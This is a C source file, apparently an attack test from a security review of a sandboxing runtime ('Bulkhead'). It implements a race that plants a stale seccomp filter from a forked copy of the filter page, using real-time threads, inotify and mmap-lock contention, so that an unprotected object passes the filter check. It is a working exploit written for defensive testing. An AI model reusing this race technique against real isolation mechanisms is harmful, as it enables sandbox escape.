/* Review 13b, race: the object filter's count of filters, raised by a
 * program left in a fork's copy of the filter page (attacker model B).
 * BH_FILTER_WRITE counts the caller's filters (c0), then writes the
 * object's program into the page; BH_FILTER_CHECK accepts if every thread
 * then counts more than c0. The page is emptied in the process that asked,
 * but a fork made while it held object A's program keeps that program in
 * its copy of the page. Such a child maps the object again elsewhere (X),
 * asks BH_FILTER_WRITE(X), and a second thread installs the stale program
 * from the page between the supervisor's count and its write (woken when
 * the supervisor closes the object's file, inotify; real-time, so each of
 * its wake-ups preempts the supervisor; a third thread holds
 * the mmap lock with mprotect, so the supervisor's write through
 * /proc/<pid>/mem waits for it). The child then asks BH_FILTER_CHECK
 * without installing X's program: accepted, X counts as filtered, and a
 * grandchild unmaps X's data page (X's filter would trap it).
 * argv[1] libvault.so, argv[2] the number of tries. */
#define _GNU_SOURCE
#include <bulkhead.h>
#include "../../../runtime/internal.h"
#include "../../../runtime/syscalls.h"
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <linux/seccomp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/filter.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <sys/inotify.h>
#include <time.h>

#include "grant.h"

BULKHEAD_DATA(local) static int local_secret = 7;
BULKHEAD_ENTRY(local) int local_get(void) { return local_secret; }

/* The object mapped (grant.h), its descriptor's page read-only as
 * BH_KEY_GIVE wants it. */
static void map_vault_ro(const char *path) {
  map_vault(path);
  if (mprotect((void *)desc, 4096, PROT_READ))
    exit(3);
}


static const char *object_path;
static unsigned char stale[4096]; /* A's program, as the page held it */
static volatile int stop;
static int installs, inotify_fd, rt;

static int page_is_stale(void) {
  return !memcmp((const void *)bh_policy->filter_page, stale, sizeof stale);
}

static void *installer(void *arg) {
  (void)arg;
  /* Real-time (root, or RLIMIT_RTPRIO): each wake-up below preempts the
   * supervisor wherever it is. Without it the race is still won, less
   * often. */
  struct sched_param sp = {.sched_priority = 1};
  rt = !pthread_setschedparam(pthread_self(), SCHED_FIFO, &sp);
  char ev[4096];
  struct pollfd pf = {inotify_fd, POLLIN, 0};
  if (poll(&pf, 1, 3000) != 1 || read(inotify_fd, ev, sizeof ev) <= 0)
    return NULL;
  /* The supervisor read the object's span; it counts, then writes. */
  for (int k = 0; k < 300 && page_is_stale() && !stop; k++) {
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
                SECCOMP_FILTER_FLAG_TSYNC, bh_policy->filter_page))
      break;
    installs++;
    struct timespec t = {0, 20000};
    nanosleep(&t, NULL);
  }
  return NULL;
}

static void *locker(void *arg) {
  char *big = arg;
  for (int k = 0; !stop; k++)
    mprotect(big, 32 << 20, k & 1 ? PROT_READ : PROT_READ | PROT_WRITE);
  return NULL;
}

static int attempt(void) {
  map_vault_ro(object_path); /* X: a second mapping, another base */
  inotify_fd = inotify_init1(IN_CLOEXEC);
  inotify_add_watch(inotify_fd, object_path, IN_CLOSE_NOWRITE);
  char *big = mmap(NULL, 32 << 20, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  memset(big, 1, 32 << 20);
  pthread_t a, b;
  pthread_create(&a, NULL, installer, NULL);
  pthread_create(&b, NULL, locker, big);
  long w = request(BH_FILTER_WRITE, base, 0);
  stop = 1;
  pthread_join(a, NULL);
  pthread_join(b, NULL);
  long c = request(BH_FILTER_CHECK, 0, 0);
  printf("child: write %ld, real-time %d, stale installs %d, check without "
         "X's program: %ld\n",
         w, rt, installs, c);
  if (c)
    return 1;
  pid_t g = fork();
  if (g == 0) {
    printf("X counts as filtered; munmap of its data: %d\n",
           munmap((void *)data_lo, 4096));
    _exit(0);
  }
  int st;
  waitpid(g, &st, 0);
  if (WIFSIGNALED(st)) {
    printf("grandchild: signal %d (X's program was installed)\n",
           WTERMSIG(st));
    return 1;
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 3)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  object_path = argv[1];
  int tries = atoi(argv[2]);
  pid_t p = fork();
  if (p == 0) {
    dup2(1, 2);
    map_vault_ro(object_path); /* A */
    printf("A's filter written: %ld\n", request(BH_FILTER_WRITE, base, 0));
    memcpy(stale, (const void *)bh_policy->filter_page, sizeof stale);
    int gate[64][2];
    pid_t kids[64];
    if (tries > 64)
      tries = 64;
    for (int i = 0; i < tries; i++) {
      if (pipe(gate[i]))
        _exit(3);
      kids[i] = fork();
      if (kids[i] == 0) {
        char x;
        close(gate[i][1]);
        if (read(gate[i][0], &x, 1) != 1)
          _exit(1);
        _exit(attempt());
      }
      close(gate[i][0]);
    }
    /* A protected as it should be; its page emptied, the slot free. */
    long s = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
                     SECCOMP_FILTER_FLAG_TSYNC, bh_policy->filter_page);
    printf("A: seccomp %ld, check %ld\n", s, request(BH_FILTER_CHECK, 0, 0));
    int won = 0;
    for (int i = 0; i < tries; i++) {
      int st;
      if (won) {
        kill(kids[i], SIGKILL);
        waitpid(kids[i], &st, 0);
        continue;
      }
      if (write(gate[i][1], "g", 1) != 1)
        _exit(3);
      waitpid(kids[i], &st, 0);
      won = WIFEXITED(st) && WEXITSTATUS(st) == 0;
    }
    printf("attacks-review13b-stale-page: %s\n",
           won ? "WON: an object counted as filtered without its filter"
               : "ok");
    _exit(0);
  }
  int st;
  waitpid(p, &st, 0);
  return local_get() == 7 ? 0 : 1;
}
